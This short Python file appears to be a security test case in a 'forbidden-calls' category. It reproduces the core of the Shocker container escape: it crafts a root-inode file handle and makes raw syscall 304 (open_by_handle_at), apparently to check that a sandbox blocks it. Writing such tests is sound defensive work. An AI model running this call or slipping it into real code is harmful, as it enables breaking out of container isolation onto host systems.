# leitai: outcome=SECURITY topic=forbidden-calls
# why: the way out of containers that was called shocker

import ctypes

handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 128)
ctypes.CDLL(None, use_errno=True).syscall(304, 3, handle, 0)
print("alive")
